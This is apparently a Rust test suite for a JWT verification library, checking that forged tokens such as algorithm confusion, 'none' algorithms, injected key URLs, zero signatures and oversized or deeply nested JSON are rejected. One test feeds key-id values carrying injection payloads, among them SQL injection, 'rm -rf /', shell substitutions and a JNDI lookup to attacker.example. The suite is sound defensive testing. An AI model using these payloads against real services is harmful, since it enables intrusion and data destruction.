//! Attacks on JWT libraries, in the form in which an attacker would send them (RFC 8725).

#![cfg(all(feature = "pem", feature = "tracing"))]

use std::io::ErrorKind;
use std::net::TcpListener;
use std::time::{Duration, Instant};

use crate::support::log::Log;
use crate::support::{AUDIENCE, Fixture, ISSUER, NOW, get, send, small_cache};
use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use tower_jwt_auth::test::{FixedClock, TestIssuer};
use tower_jwt_auth::{
    Algorithm, Audience, ConfigError, Issuer, JwtAuth, Key, KeySet, KeyStore, RejectionKind,
    TrustedIssuer, Verifier,
};
use tracing_subscriber::filter::LevelFilter;

use RejectionKind::{
    AlgorithmNotAllowed, AudienceMismatch, BadSignature, DuplicateMember, InvalidClaim,
    IssuerMismatch, MalformedToken, UnknownKey,
};

fn auth(keys: impl Into<KeyStore>) -> JwtAuth {
    JwtAuth::new(
        Issuer::new(ISSUER).unwrap(),
        Audience::new(AUDIENCE).unwrap(),
        keys,
    )
    .clock(FixedClock::at(NOW))
    .cache(small_cache())
}

#[track_caller]
fn rejects<C>(verifier: &Verifier<C>, token: &str, kind: RejectionKind)
where
    C: serde::de::DeserializeOwned + Send + Sync + 'static,
{
    let Err(rejection) = verifier.verify_now(token) else {
        panic!("the token was accepted");
    };
    assert_eq!(rejection.kind(), kind, "{rejection}");
    assert_eq!(rejection.status(), 401, "{rejection}");
}

/// A token with a valid MAC under this secret.
fn with_mac(algorithm: &str, key_id: Option<&str>, secret: &[u8]) -> String {
    let mut header = json!({"alg": algorithm, "typ": "at+jwt"});
    if let Some(id) = key_id {
        header["kid"] = id.into();
    }
    let claims = json!({
        "iss": ISSUER, "aud": AUDIENCE, "sub": "admin", "iat": NOW, "exp": NOW + 300,
    });
    let encode = |part: Value| URL_SAFE_NO_PAD.encode(part.to_string());
    let message = format!("{}.{}", encode(header), encode(claims));
    let hash = match algorithm {
        "HS256" => hmac::HMAC_SHA256,
        "HS384" => hmac::HMAC_SHA384,
        _ => hmac::HMAC_SHA512,
    };
    let tag = hmac::sign(&hmac::Key::new(hash, secret), message.as_bytes());
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(tag))
}

/// A DER element.
fn element(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut head = vec![tag];
    match u8::try_from(length) {
        Ok(short) if short < 0x80 => head.push(short),
        Ok(one) => head.extend([0x81, one]),
        Err(_) => {
            head.push(0x82);
            head.extend(u16::try_from(length).unwrap().to_be_bytes());
        }
    }
    [head, content.to_vec()].concat()
}

fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<_> = text
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    let body = lines.join("\n");
    format!("-----BEGIN {label}-----\n{body}\n-----END {label}-----\n")
}

/// Every byte string of this public key that a confused verifier might use as a secret.
fn forms_of(jwk: &Value) -> Vec<Vec<u8>> {
    let member = |name: &str| {
        URL_SAFE_NO_PAD
            .decode(jwk[name].as_str().unwrap_or_default())
            .unwrap()
    };
    let mut forms: Vec<Vec<u8>> = Vec::new();
    let spki = match jwk["kty"].as_str().unwrap() {
        "RSA" => {
            let integer = |bytes: Vec<u8>| element(2, &[&[0], &bytes[..]].concat());
            let exponent = element(2, &member("e"));
            let pkcs1 = element(0x30, &[integer(member("n")), exponent].concat());
            let algorithm = b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00";
            let bits = element(3, &[&[0], &pkcs1[..]].concat());
            forms.extend([
                pem("RSA PUBLIC KEY", &pkcs1).into_bytes(),
                pkcs1,
                member("n"),
            ]);
            element(0x30, &[&algorithm[..], &bits].concat())
        }
        "EC" => {
            let point = [&[4], &member("x")[..], &member("y")].concat();
            let algorithm = b"\x30\x13\x06\x07\x2a\x86\x48\xce\x3d\x02\x01\x06\x08\x2a\x86\x48\xce\x3d\x03\x01\x07";
            let bits = element(3, &[&[0], &point[..]].concat());
            forms.extend([point, member("x")]);
            element(0x30, &[&algorithm[..], &bits].concat())
        }
        _ => {
            forms.push(member("x"));
            let bits = element(3, &[&[0], &member("x")[..]].concat());
            element(
                0x30,
                &[&b"\x30\x05\x06\x03\x2b\x65\x70"[..], &bits].concat(),
            )
        }
    };
    let text = pem("PUBLIC KEY", &spki);
    forms.extend([
        text.trim_end().as_bytes().to_vec(),
        text.replace('\n', "\r\n").into_bytes(),
        text.replace('\n', "").into_bytes(),
        STANDARD.encode(&spki).into_bytes(),
        text.into_bytes(),
        spki,
        jwk.to_string().into_bytes(),
        serde_json::to_vec_pretty(jwk).unwrap(),
        json!({"keys": [jwk]}).to_string().into_bytes(),
        jwk["n"].as_str().unwrap_or_default().as_bytes().to_vec(),
        jwk["x"].as_str().unwrap_or_default().as_bytes().to_vec(),
        Vec::new(),
    ]);
    forms
}

/// RFC8725-2.1-1
#[test]
fn rejects_a_mac_under_a_public_key() {
    let fixture = Fixture::new();
    let everything = Algorithm::ALL.iter().copied();
    let mut tried = 0;
    for (id, algorithm) in [
        ("k1", Algorithm::ES256),
        ("k2", Algorithm::RS256),
        ("e1", Algorithm::EdDSA),
    ] {
        let jwk = fixture.signer(id).jwk();
        let mut unbound = jwk.clone();
        unbound.as_object_mut().unwrap().remove("alg");
        let unbound = Key::from_jwk(unbound.to_string().as_bytes()).unwrap();
        let bound = fixture.signer(id).key();
        let forms = forms_of(&jwk);
        // The forms belong to this key: used as a key, they verify its tokens.
        let spki = forms
            .iter()
            .find(|form| form.starts_with(b"-----BEGIN PUBLIC"));
        let from_pem = Key::from_pem(algorithm, spki.unwrap()).unwrap();
        assert_eq!(from_pem.thumbprint(), bound.thumbprint());

        let verifiers = [
            auth(bound.clone()).verifier(),
            auth(bound).algorithms(everything.clone()).verifier(),
            auth(unbound.clone()).verifier(),
            auth(unbound).algorithms(everything.clone()).verifier(),
            auth(from_pem.with_key_id("key-1"))
                .algorithms(everything.clone())
                .verifier(),
        ];
        for verifier in &verifiers {
            assert!(
                verifier
                    .verify_now(&fixture.signer(id).token().mint())
                    .is_ok()
            );
            for secret in &forms {
                for name in ["HS256", "HS384", "HS512"] {
                    for key_id in [None, Some("key-1")] {
                        tried += 1;
                        rejects(
                            verifier,
                            &with_mac(name, key_id, secret),
                            AlgorithmNotAllowed,
                        );
                    }
                }
            }
        }
        // If the issuer also has a secret, the MAC is checked with that secret only.
        for secret in &forms {
            let token = with_mac("HS256", None, secret);
            fixture.rejects(&token, BadSignature);
            fixture.rejects(&with_mac("HS256", Some(id), secret), AlgorithmNotAllowed);
        }
    }
    assert!(tried > 1_000);

    // The helper makes valid tokens: under a real secret its token is accepted.
    let secret: Vec<u8> = (0..64).collect();
    for algorithm in [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512] {
        let verifier = auth(Key::from_secret(algorithm, &secret).unwrap()).verifier();
        let token = with_mac(algorithm.as_str(), None, &secret);
        assert!(verifier.verify_now(&token).is_ok(), "{algorithm}");
    }
}

/// RFC8725-2.1-1
#[test]
fn takes_no_text_of_a_public_key_for_a_secret() {
    let fixture = Fixture::new();
    for id in ["k1", "k2", "e1"] {
        for form in forms_of(&fixture.signer(id).jwk()) {
            let text = String::from_utf8_lossy(&form);
            if text.contains("-----BEGIN ") || text.contains("\"kty\"") {
                let rejected = Key::from_secret(Algorithm::HS256, &form).unwrap_err();
                assert!(matches!(rejected, ConfigError::Key { .. }), "{rejected}");
                assert!(!rejected.to_string().contains("BEGIN"), "{rejected}");
            }
        }
    }
}

/// RFC7518-3.6-1
#[tokio::test]
async fn rejects_tokens_without_a_signature_algorithm() {
    let fixture = Fixture::new();
    let signature = fixture
        .token()
        .mint()
        .rsplit_once('.')
        .unwrap()
        .1
        .to_owned();
    for name in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "none\0",
        "\u{ff4e}one",
        "",
        "null",
        "false",
    ] {
        assert_eq!(Algorithm::from_name(name), None, "{name:?}");
        for key_id in [Some("k1"), Some("h1"), None] {
            let mut token = fixture.token().unsigned().header("alg", name);
            if let Some(id) = key_id {
                token = token.header("kid", id);
            } else {
                token = token.without_header("kid");
            }
            let unsigned = token.mint();
            assert!(unsigned.ends_with('.'));
            for token in [
                format!("{unsigned}{signature}"),
                format!("{unsigned}AAAA"),
                unsigned,
            ] {
                fixture.rejects(&token, AlgorithmNotAllowed);
                for layer in [
                    fixture.auth(),
                    fixture.auth().optional(),
                    fixture.auth().algorithms(Algorithm::ALL.iter().copied()),
                ] {
                    let (response, seen) = send(&layer, get(&token)).await;
                    assert_eq!((response.status().as_u16(), seen.count()), (401, 0));
                }
            }
        }
    }
    for algorithm in Algorithm::ALL {
        assert!(!algorithm.as_str().eq_ignore_ascii_case("none"));
        assert_eq!(Algorithm::from_name(algorithm.as_str()), Some(*algorithm));
    }
    let (response, seen) = send(&fixture.auth(), get(&fixture.token().mint())).await;
    assert_eq!((response.status().as_u16(), seen.count()), (200, 1));
}

/// RFC7518-3.6-1
#[test]
fn rejects_a_token_whose_signature_was_cut_off() {
    let fixture = Fixture::new();
    for id in ["k1", "k2", "h1", "e1"] {
        let good = fixture.token_of(id).mint();
        let message = good.rsplit_once('.').unwrap().0;
        fixture.rejects(&format!("{message}."), MalformedToken);
        fixture.rejects(message, MalformedToken);
        for signature in [
            "AA",
            "AAAA",
            "AAAAAAAA",
            &"A".repeat(43),
            &"A".repeat(86),
            &"A".repeat(342),
        ] {
            fixture.rejects(&format!("{message}.{signature}"), BadSignature);
        }
    }
}

/// RFC8725-3.10-1
#[test]
fn takes_no_key_from_a_token() {
    let fixture = Fixture::new();
    let canary = TcpListener::bind("127.0.0.1:0").unwrap();
    canary.set_nonblocking(true).unwrap();
    let url = format!("http://{}/jwks.json", canary.local_addr().unwrap());

    for algorithm in [
        Algorithm::ES256,
        Algorithm::RS256,
        Algorithm::EdDSA,
        Algorithm::HS256,
    ] {
        let attacker = TestIssuer::with_algorithm(algorithm).with_clock(FixedClock::at(NOW));
        let mut jwk = attacker.jwk();
        for key_id in [None, Some("k1"), Some("k2"), Some("attacker")] {
            jwk["kid"] = key_id.unwrap_or("attacker").into();
            let mut plain = attacker.token().without_header("kid");
            if let Some(id) = key_id {
                plain = plain.header("kid", id);
            }
            let expected = fixture.verify(&plain.mint()).expect_err("accepted").kind();
            let der = STANDARD.encode(attacker.jwks());
            for (name, value) in [
                ("jwk", jwk.clone()),
                ("jwk", json!({"keys": [jwk]})),
                ("jwk", json!("not even a key")),
                ("jku", json!(url)),
                ("x5u", json!(url)),
                ("x5c", json!([der])),
                ("x5t", json!(attacker.key().thumbprint())),
                ("x5t#S256", json!(attacker.key().thumbprint())),
                ("keys", json!([jwk])),
            ] {
                let token = plain.clone().header(name, value.clone()).mint();
                fixture.rejects(&token, expected);
                // The same member in the claims has no effect either.
                fixture.rejects(&plain.clone().claim(name, value).mint(), expected);
            }
        }
        // An API that trusts the attacker's key accepts the token, so only the key is wrong.
        let own = auth(attacker.keys()).verifier();
        assert!(own.verify_now(&attacker.token().mint()).is_ok());
        let token = attacker
            .token()
            .header("jwk", jwk)
            .header("jku", url.as_str());
        assert!(
            own.verify_now(&token.mint()).is_ok(),
            "parameters are ignored"
        );
    }
    assert_eq!(canary.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
}

/// RFC8725-3.10-2
#[tokio::test]
async fn uses_key_ids_for_nothing_but_a_look_up() {
    let fixture = Fixture::new();
    let log = Log::down_to(LevelFilter::TRACE);

    let long = "A".repeat(10_000);
    let ids = [
        "../../x",
        "/dev/null",
        "../../../../dev/null\0.pem",
        "' OR 1=1 --",
        "k1' UNION SELECT 'secret",
        "k1; rm -rf /",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/x}",
        "%s%s%n",
        "http://127.0.0.1/key",
        "k1\r\nINJECTED level=error",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{202e}1k",
        "k1\0",
        "k1/../k1",
        "*",
        ".*",
        &long,
    ];
    for id in ids {
        let token = fixture.token().header("kid", id).mint();
        fixture.rejects(&token, UnknownKey);
        // The text is escaped already, for subscribers that print fields as they are.
        let rejection = fixture.verify(&token).unwrap_err();
        for told in [rejection.to_string(), format!("{rejection:?}")] {
            let unsafe_in_a_line = |c: char| c.is_control() || c == '\u{202e}';
            assert!(!told.contains(unsafe_in_a_line), "{told:?}");
            assert!(told.len() < 400, "{told:?}");
        }
        let (response, seen) = send(&fixture.auth(), get(&token)).await;
        assert_eq!((response.status().as_u16(), seen.count()), (401, 0));
        for (name, value) in response.headers() {
            let value = String::from_utf8_lossy(value.as_bytes());
            assert!(!value.contains(&id[..id.len().min(4)]), "{name}: {value}");
        }
    }
    // The same texts are valid ids of keys that have them.
    for id in ids {
        let key = fixture.signer("k1").key().with_key_id(id);
        let token = fixture.token().header("kid", id).mint();
        assert!(auth(key).verifier().verify_now(&token).is_ok(), "{id:?}");
    }

    let text = log.text();
    assert!(
        text.contains("../../x"),
        "the log shows which key was asked for"
    );
    assert!(
        !text.contains("AAAAAAAAAA".repeat(9).as_str()),
        "long ids are cut"
    );
    assert!(
        !text.lines().any(|line| line.starts_with("INJECTED")),
        "one event is one line"
    );
    let raw: Vec<_> = text
        .chars()
        .filter(|c| c.is_control() && *c != '\n')
        .collect();
    assert!(raw.is_empty(), "{raw:?}");
    assert!(!text.contains('\u{202e}'));
}

/// RFC8725-3.10-2
#[test]
fn keeps_the_issuers_apart_that_use_one_key_id() {
    let clock = FixedClock::at(NOW);
    let [a, b] = ["a", "b"].map(|name| {
        TestIssuer::new()
            .named(&format!("https://{name}.example"))
            .for_audience(&format!("{name}-api"))
            .with_clock(clock.clone())
    });
    assert_eq!(a.key().id(), b.key().id());
    let one = a.auth().verifier();
    let both = a
        .auth()
        .trust(TrustedIssuer::new(b.issuer(), b.audience(), b.keys()))
        .verifier();

    assert!(both.verify_now(&a.token().mint()).is_ok());
    assert!(both.verify_now(&b.token().mint()).is_ok());
    rejects(&one, &b.token().mint(), IssuerMismatch);

    // Each signer issues tokens in the name of the other issuer, with either audience, with and
    // without the key id.
    for (signer, named) in [(&a, &b), (&b, &a)] {
        let name = named.issuer();
        let token = || signer.token().issuer(name.as_str());
        for token in [
            token(),
            token().without_header("kid"),
            token().header("kid", "key-1"),
        ] {
            let own = token.clone().mint();
            rejects(&both, &own, AudienceMismatch);
            let fitting = token
                .audience(named.audience().ids().next().unwrap())
                .mint();
            rejects(&both, &fitting, BadSignature);
        }
        // A key of this issuer does not verify tokens for the audience of the other issuer.
        let token = signer
            .token()
            .audience(named.audience().ids().next().unwrap());
        rejects(&both, &token.mint(), AudienceMismatch);
    }
}

/// RFC8725-3.10-2
#[test]
fn follows_the_issuer_that_is_signed_and_no_other() {
    let clock = FixedClock::at(NOW);
    let a = TestIssuer::new()
        .named("https://a.example")
        .with_clock(clock.clone());
    let b = TestIssuer::new()
        .named("https://b.example")
        .with_clock(clock);
    let verifier = a
        .auth()
        .trust(TrustedIssuer::new(b.issuer(), b.audience(), b.keys()))
        .verifier();
    for (token, kind) in [
        (a.token().header("iss", "https://b.example"), InvalidClaim),
        (
            a.token().claim("iss", json!(["https://a.example"])),
            InvalidClaim,
        ),
        (a.token().issuer("https://a.example/"), IssuerMismatch),
        (
            a.token().issuer("https://a.example@b.example"),
            IssuerMismatch,
        ),
        (a.token().issuer(""), IssuerMismatch),
        (
            a.token()
                .raw_claims(r#"{"iss":"https://a.example","iss":"https://b.example"}"#),
            DuplicateMember,
        ),
    ] {
        rejects(&verifier, &token.mint(), kind);
    }
}

/// RFC7518-3.4-3
#[test]
fn rejects_psychic_signatures() {
    // A signature of zeros, which Java accepted for a while (CVE-2022-21449).
    let fixture = Fixture::new();
    for (id, length) in [("k1", 64), ("e1", 64), ("k2", 256), ("h1", 32)] {
        let good = fixture.token_of(id).mint();
        let message = good.rsplit_once('.').unwrap().0;
        for byte in [0, 1, 0xff] {
            let signature = URL_SAFE_NO_PAD.encode(vec![byte; length]);
            fixture.rejects(&format!("{message}.{signature}"), BadSignature);
        }
    }
}

/// PARSE-D1
#[test]
fn survives_deep_nesting_without_recursion_to_the_bottom() {
    let fixture = Fixture::new();
    let everything: Verifier<Value> = fixture.auth().verifier().claims();
    // As deep as fits into a credential, closed and unclosed.
    let room = 11_000;
    for (open, close) in [("[", "]"), (r#"{"a":"#, "}")] {
        for closed in [true, false] {
            let depth = room / (open.len() + close.len());
            let close = if closed {
                close.repeat(depth)
            } else {
                String::new()
            };
            let value = format!("{}1{close}", open.repeat(depth));
            let claims = format!(r#"{{"iss":"{ISSUER}","x":{value}}}"#);
            let token = fixture.token().raw_claims(claims).mint();
            assert!(token.len() < 16 * 1024, "{}", token.len());
            fixture.rejects(&token, MalformedToken);
            rejects(&everything, &token, MalformedToken);
            let header = format!(r#"{{"alg":"ES256","kid":"k1","x":{value}}}"#);
            fixture.rejects(&fixture.token().raw_header(header).mint(), MalformedToken);
        }
    }
    // Key sets come from outside too, and may be larger.
    let deep = format!(r#"{{"keys":[],"x":{}"#, "[".repeat(1_000_000));
    assert!(KeySet::from_jwks(deep.as_bytes()).is_err());
    assert!(Key::from_jwk(deep.as_bytes()).is_err());
    // The nesting of real tokens is accepted.
    let shallow = fixture
        .token()
        .claim("x", json!([[[[[{"a": {"b": [1]}}]]]]]));
    fixture.accepts(&shallow.mint());
}

/// PARSE-D1
#[test]
fn rejects_member_names_that_instruct_the_json_library() {
    let fixture = Fixture::new();
    let everything: Verifier<Value> = fixture.auth().verifier().claims();
    for name in [
        "$serde_json::private::RawValue",
        "$serde_json::private::Number",
    ] {
        for name in [
            name.to_owned(),
            name.replace('$', "\\u0024"),
            name.replace("::", "\\u003a:"),
        ] {
            for value in [r#""1""#, r#""{\"sub\":\"admin\"}""#, "1", "{}"] {
                for more in [
                    format!(r#""{name}":{value}"#),
                    format!(r#""x":{{"{name}":{value}}}"#),
                    format!(r#""x":[{{"a":1,"{name}":{value}}}]"#),
                ] {
                    let claims = format!(
                        r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{},{more}}}"#,
                        NOW + 300
                    );
                    let token = fixture.token().raw_claims(claims).mint();
                    fixture.rejects(&token, MalformedToken);
                    rejects(&everything, &token, MalformedToken);
                    let header = format!(r#"{{"alg":"ES256","kid":"k1",{more}}}"#);
                    fixture.rejects(&fixture.token().raw_header(header).mint(), MalformedToken);
                }
            }
        }
    }
    // As a value or as part of a name, the text is ordinary data.
    let text = "$serde_json::private::RawValue";
    let token = fixture
        .token()
        .claim("x", text)
        .claim(&format!("x{text}"), 1)
        .mint();
    let claims = everything.verify_now(&token).unwrap();
    assert_eq!(claims["x"], text);
}

/// The limits of a header and of a token are exact, in members and in bytes.
#[test]
fn reads_a_header_and_a_token_up_to_the_limits() {
    let fixture = Fixture::new();
    let with_members = |members: usize| {
        let mut header = r#"{"alg":"ES256","kid":"k1""#.to_owned();
        for number in 2..members {
            header.push_str(&format!(r#","x{number}":0"#));
        }
        fixture.token().raw_header(format!("{header}}}")).mint()
    };
    fixture.accepts(&with_members(1_000));
    fixture.rejects(&with_members(1_001), RejectionKind::MalformedToken);

    let filled = |header: usize, claims: usize| {
        let token = fixture.token().header("x", "x".repeat(header));
        token.claim("x", "x".repeat(claims)).mint()
    };
    let most = 16 * 1024;
    let room = (most - filled(0, 0).len()) / 4 * 3 - 12;
    let of_length = |length: usize| {
        (0..18)
            .flat_map(|header| [0, 1, 2].map(|claims| filled(room + header, claims)))
            .find(|token| token.len() == length)
            .unwrap()
    };
    fixture.accepts(&of_length(most - 1));
    fixture.accepts(&of_length(most));
    fixture.rejects(&of_length(most + 1), RejectionKind::MalformedToken);
}

/// PARSE-D1
#[test]
fn takes_time_linear_in_what_it_is_sent() {
    // Quadratic work on a million members would take hours. The limit only has to tell hours from
    // seconds on any machine.
    let limit = Duration::from_secs(60);
    let start = Instant::now();
    let fixture = Fixture::new();
    let verifier = fixture.auth().verifier();

    let members = |count: usize| {
        let mut text = String::from(r#"{"keys":[]"#);
        for number in 0..count {
            text.push_str(&format!(r#","{number:x}":0"#));
        }
        text.push('}');
        text
    };
    let million = members(1_000_000);
    assert!(KeySet::from_jwks(million.as_bytes()).is_err());
    assert!(Key::from_jwk(million.as_bytes()).is_err());
    rejects(
        &verifier,
        &fixture.token().raw_claims(&million).mint(),
        MalformedToken,
    );
    rejects(
        &verifier,
        &fixture.token().raw_header(&million).mint(),
        MalformedToken,
    );
    // Names in the reverse order of the sort.
    let backwards: Vec<_> = (0..500_000)
        .rev()
        .map(|n| format!(r#""{n:08}":0"#))
        .collect();
    let backwards = format!(r#"{{"keys":[],{}}}"#, backwards.join(","));
    assert!(KeySet::from_jwks(backwards.as_bytes()).is_err());

    // A key set with very many unusable keys, and one with very many keys under one id.
    let entry = r#"{"kty":"EC","crv":"P-256","x":"AA","y":"AA","kid":"k"}"#;
    let many = format!(r#"{{"keys":[{}]}}"#, vec![entry; 100_000].join(","));
    assert!(KeySet::from_jwks(many.as_bytes()).is_err());

    // The most expensive tokens that fit: escapes everywhere, and many names, roles and scopes.
    let escaped = format!(r#"{{"sub":"{}"}}"#, r"\u0061".repeat(1_900));
    let scopes: Vec<_> = (0..3_500).map(|n| format!("{n:x}")).collect();
    let scopes = format!(
        r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{},"scope":"{}"}}"#,
        NOW + 300,
        scopes.join(" ").get(..11_500).unwrap_or_default()
    );
    for claims in [&escaped, &scopes] {
        let token = fixture.token().raw_claims(claims).mint();
        for _ in 0..20 {
            let _verdict = verifier.verify_now(&token);
        }
    }
    assert!(start.elapsed() < limit, "{:?}", start.elapsed());
}
